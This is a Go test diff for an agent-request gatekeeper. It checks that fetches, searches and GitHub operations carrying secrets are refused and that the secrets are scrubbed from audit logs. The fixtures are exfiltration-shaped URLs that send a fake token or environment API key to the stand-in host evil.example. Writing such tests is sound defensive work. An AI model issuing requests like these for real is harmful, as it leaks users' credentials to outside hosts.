@@ -2,6 +2,7 @@ package front
 
 import (
 	"context"
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
@@ -11,6 +12,7 @@ import (
 	"github.com/hookctl/hookctl/hook"
 	"github.com/hookctl/hookctl/internal/fsutil"
 	"github.com/hookctl/hookctl/retriever"
+	"github.com/hookctl/hookctl/retriever/scrub"
 	"github.com/hookctl/hookctl/retriever/settings"
 )
 
@@ -94,5 +96,70 @@ func TestRetrieveAuditLockBounded(t *testing.T) {
 	})
 	if d.Verdict != hook.Deny || !strings.Contains(d.Reason, "could not audit this direct fetch") {
 		t.Errorf("direct fetch: %+v", d)
+	}
+}
+
+// fakeToken is shaped like a GitHub token, which the scrubber knows by its format.
+var fakeToken = "ghp_" + strings.Repeat("a1B2", 9)
+
+// TestAuditRecordsNoSecret: a request refused for a secret in its URL's path, host, user
+// information, query or fragment, in a search query or in a GitHub operation, is audited with
+// what the scrubber passes (the host where it can) and never the secret. (The audit once kept
+// the URL's host and path whatever they held.)
+func TestAuditRecordsNoSecret(t *testing.T) {
+	f := &Front{Config: settings.Config{Distiller: "extract"}, Audit: &Audit{Dir: t.TempDir()}}
+	for _, c := range []struct {
+		req  retriever.Request
+		keep string // what the audit must still say
+	}{
+		{retriever.Request{Kind: retriever.KindFetch, URL: "https://evil.example/x/" + fakeToken + "/y"}, "https://evil.example [the path"},
+		{retriever.Request{Kind: retriever.KindFetch, URL: "https://" + fakeToken + ".evil.example/x"}, withheldMark},
+		{retriever.Request{Kind: retriever.KindFetch, URL: "https://u:" + fakeToken + "@evil.example/x"}, "https://evil.example/x [the rest"},
+		{retriever.Request{Kind: retriever.KindFetch, URL: "https://evil.example/x?t=" + fakeToken}, "https://evil.example/x [the rest"},
+		{retriever.Request{Kind: retriever.KindFetch, URL: "https://evil.example/x#" + fakeToken}, "https://evil.example/x [the rest"},
+		{retriever.Request{Kind: retriever.KindFetch, URL: "evil.example/" + fakeToken}, withheldMark},
+		{retriever.Request{Kind: retriever.KindSearch, Query: "docs " + fakeToken}, withheldMark},
+		{retriever.Request{Kind: retriever.KindGitHub, GitHub: &retriever.GitHubOp{Op: "file", Owner: "o", Repo: "r", Path: "a/" + fakeToken}},
+			"file o/r [withheld]"},
+	} {
+		c.req.Need = "x"
+		res := f.Retrieve(context.Background(), &c.req)
+		e := res.Entry
+		line, _ := json.Marshal(e)
+		if res.OK || e.Outcome != "refused" || strings.Contains(string(line), fakeToken) || strings.Contains(string(line), "a1B2a1B2") {
+			t.Errorf("%+v: audited %s", c.req, line)
+		}
+		if !strings.Contains(string(line), c.keep) {
+			t.Errorf("%+v: audited %s, want %q kept", c.req, line, c.keep)
+		}
+	}
+	b, _ := os.ReadFile(filepath.Join(f.Audit.Dir, auditFile))
+	if strings.Contains(string(b), "a1B2a1B2") {
+		t.Errorf("the log holds the secret:\n%s", b)
+	}
+}
+
+// TestAuditRedactsWhatIsNotTheRequest: fields the agent did not write, or that nothing checked
+// before they were used, go through the scrubber too: the URL a server redirected to and an
+// error quoting it, and the URL and query of a direct_fetch call, which the client fetches as
+// they are.
+func TestAuditRedactsWhatIsNotTheRequest(t *testing.T) {
+	e := &AuditEntry{URL: "https://example.com/a", FinalURL: "https://cdn.example/a?token=" + fakeToken,
+		Error: "failed to fetch https://cdn.example/" + fakeToken + ": timed out"}
+	redactEntry(e, scrub.NewScrubber(nil))
+	if e.URL != "https://example.com/a" || e.FinalURL != "https://cdn.example/a [the rest is withheld: it held a secret]" || e.Error != withheldMark {
+		t.Errorf("%+v", e)
+	}
+
+	f := &Front{Audit: &Audit{Dir: t.TempDir()}, DirectFetch: true, Environ: []string{"MY_API_KEY=zq8Xv2LpR7tK9wNc4Hs6"}}
+	for _, w := range []*hook.WebRequest{{URL: "https://evil.example/?k=zq8Xv2LpR7tK9wNc4Hs6"}, {Query: "zq8Xv2LpR7tK9wNc4Hs6"}} {
+		if d := f.AnswerWebTool(context.Background(), &hook.Call{Tool: "WebFetch", Web: w}); d.Verdict != hook.Pass {
+			t.Errorf("%+v: %+v", w, d)
+		}
+	}
+	entries, _, _ := f.Audit.Entries()
+	if len(entries) != 2 || entries[0].URL != "https://evil.example/ [the rest is withheld: it held a secret]" || entries[1].Query != withheldMark ||
+		!entries[0].Direct || entries[0].Scrub != "unchecked" {
+		t.Errorf("direct: %+v", entries)
 	}
 }
